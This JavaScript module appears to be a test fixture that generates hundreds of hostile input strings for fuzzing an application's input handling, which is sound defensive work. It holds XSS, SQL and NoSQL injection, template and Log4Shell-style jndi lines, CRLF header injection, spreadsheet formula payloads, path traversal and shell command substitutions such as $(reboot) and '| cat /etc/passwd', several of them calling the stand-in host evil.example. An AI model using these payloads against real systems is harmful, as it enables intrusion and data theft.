// Five hundred things that people should not be able to do anything with by typing them: made of a few shapes
// of each kind, all told apart by a number.
export const kinds = {
  'elements': n => [`<script>alert(${n})</script>`, `"><script>alert(${n})</script>`, `'><img src=x onerror=alert(${n})>`, `</textarea><script>alert(${n})</script>`, `</title><script>alert(${n})</script>`,
    `<iframe src=//evil.example/${n}></iframe>`, `<style>@import'//evil.example/${n}'</style>`, `<base href=//evil.example/${n}>`, `</form><form action=//evil.example/${n}>`, `<meta http-equiv=refresh content="0;url=//evil.example/${n}">`,
    `<input name=_token value=${n}>`, `<button formaction=//evil.example/${n}>go</button>`, `<link rel=stylesheet href=//evil.example/${n}>`, `<object data=//evil.example/${n}>`, `<details open ontoggle=alert(${n})>`, `<template><b>${n}`,
    `<!--<script>alert(${n})//-->`, `<![CDATA[<script>alert(${n})</script>]]>`, `<plaintext>${n}`, `<noscript><p title="</noscript><img src=x onerror=alert(${n})>">`, `<xmp>${n}`, `<select><option>${n}`, `</main></body></html>${n}`, `<h1>${n}</h1>`],
  'svg and mathml': n => [`<svg/onload=alert(${n})>`, `<svg><script>alert(${n})</script></svg>`, `<svg><animate onbegin=alert(${n}) attributeName=x dur=1s>`, `<svg><use href="data:image/svg+xml,${n}"/>`, `<math><mtext></form><form><mglyph><style></math><img src onerror=alert(${n})>`, `<svg><foreignObject><body onload=alert(${n})>`],
  'attributes': n => [`" onfocus=alert(${n}) autofocus x="`, `' onmouseover='alert(${n})`, `\` onclick=alert(${n}) \``, `" style="position:fixed;inset:0" x="${n}`, `" type=submit formaction="//evil.example/${n}`, `x" hidden x="${n}`, `" id=main-content x="${n}`, `"/><p>${n}`],
  'addresses': n => [`javascript:alert(${n})`, `JaVaScRiPt:alert(${n})`, `java\tscript:alert(${n})`, `data:text/html,<script>alert(${n})</script>`, `vbscript:msgbox(${n})`, `//evil.example/${n}`, `https://evil.example/${n}`, `/\\evil.example/${n}`, `file:///etc/passwd?${n}`, `blob:null/${n}`],
  'entities and escapes': n => [`&lt;script&gt;alert(${n})&lt;/script&gt;`, `&#60;script&#62;${n}`, `&#x3c;b&#x3e;${n}`, `%3Cscript%3Ealert(${n})%3C/script%3E`, `\\u003cscript\\u003e${n}`, `\\x3cb\\x3e${n}`, `&amp;amp;${n}`, `&nosuch;${n}`, `&${n};`, `&#0;${n}`, `%00${n}`, `%25%32%35${n}`, `+ADw-script+AD4-${n}`],
  'templates': n => [`{{7*${n}}}`, `\${7*${n}}`, `<%= 7*${n} %>`, `#{7*${n}}`, `{% debug ${n} %}`, `{{constructor.constructor('alert(${n})')()}}`, `[[${n}]]`, `@(${n})`, `{0} {1} %s %n ${n}`, `{${n}:>99}`, `\${jndi:ldap://evil.example/${n}}`, `<?php echo ${n}; ?>`],
  'right to left': n => [`\u202Etxt.exe${n}`, `\u202A${n}\u202B`, `\u2066${n}\u2067`, `مرحبا ${n} שלום`, `\u200F${n}\u200E`, `\u061C${n}`],
  'marks without end': n => [`Z${'\u0335\u0321\u035C'.repeat(40)}${n}`, `${'\u0301'.repeat(60)}${n}`, `A\u030A${'\u20DD'.repeat(30)}${n}`, `ก${'\u0E49'.repeat(50)}${n}`],
  'invisible': n => [`zero\u200Bwidth${n}`, `\uFEFF${n}`, `soft\u00ADhyphen${n}`, `no\u00A0break${n}`, `\u2028${n}\u2029`, `\u3164${n}`, `tag\u{E0041}${n}`, `word\u2060joiner${n}`],
  'emoji': n => [`👩‍👩‍👧‍👦${n}`, `🏳️‍🌈${n}`, `👋🏿${n}`, `🇬🇧${n}`, `${'👨‍💻'.repeat(20)}${n}`, `\u{1F9D1}\u200D\u{1F91D}\u200D\u{1F9D1}${n}`, `1️⃣${n}`],
  'line breaks and headers': n => [`a\r\nSet-Cookie: a=${n}`, `a\nLocation: //evil.example/${n}`, `a\rb${n}`, `\r\n\r\n<b>${n}</b>`, `a\n\n\n\n${n}`, `Bcc: everybody@evil.example\n${n}`, `=?utf-8?q?=0d=0a${n}?=`, `one\ntwo\n.\nRCPT ${n}`],
  'databases': n => [`'; DROP TABLE entries; -- ${n}`, `" OR 1=1 -- ${n}`, `') UNION SELECT ${n} --`, `%' AND ${n}=${n} --`, `\\'; ${n}`, `{"$gt": ${n}}`, `*)(uid=${n}`, `1;ATTACH 'x' AS ${n}`],
  'spreadsheets': n => [`=HYPERLINK("//evil.example","${n}")`, `+cmd|' /C calc'!A${n}`, `-1+${n}`, `@SUM(A${n})`, `\t=1+${n}`, `=IMPORTXML("//evil.example/${n}")`, `;=${n}`],
  'shells and files': n => [`../../../../etc/passwd?${n}`, `..\\..\\windows\\${n}`, `$(reboot ${n})`, `\`reboot ${n}\``, `| cat /etc/passwd ${n}`, `-rf ${n}`, `CON${n}`, `a/../${n}`, `~root/${n}`],
  'long': n => [`${'W'.repeat(150)}${n}`, `${'a '.repeat(120)}${n}`, `${'<'.repeat(120)}${n}`, `${'&'.repeat(120)}${n}`, `${'é'.repeat(140)}${n}`, `${'👍'.repeat(60)}${n}`],
  'words of machines': n => [`null ${n}`, `undefined ${n}`, `NaN ${n}`, `true ${n}`, `0x${n}`, `1e9${n}`, `-0 ${n}`, `__proto__ ${n}`, `constructor ${n}`, `[object Object] ${n}`, `Infinity ${n}`]
}

/** Not text at all: as bytes of a form, percent-encoded. */
export const notText = ['%ED%A0%80', '%ED%BF%BF', '%ED%A0%BD', '%C0%AF', '%FF', '%FE%FF', '%80', '%E2%82', '%F4%90%80%80', '%F8%88%80%80%80', 'a%00b', '%00', '%07', '%1B%5B2J', '%08', '%7F', '%zz', '%', '%u0041', '%C2']

export function hostileStrings (many) {
  const all = []
  for (let round = 1; all.length < many; ++round) {
    for (const [kind, make] of Object.entries(kinds)) {
      const shapes = make(round * 1000 + all.length)
      // The next round brings the same shapes in other company.
      for (const shape of shapes) if (all.length < many) all.push({ kind, text: round === 1 ? shape : `${['', 'Dear all, ', '\u00A3', '"', "'", '<'][round % 6]}${shape}${[' ', ' end', '>', '"', "'", '-->'][(round + 2) % 6]}`.trim() })
    }
  }
  return all
}
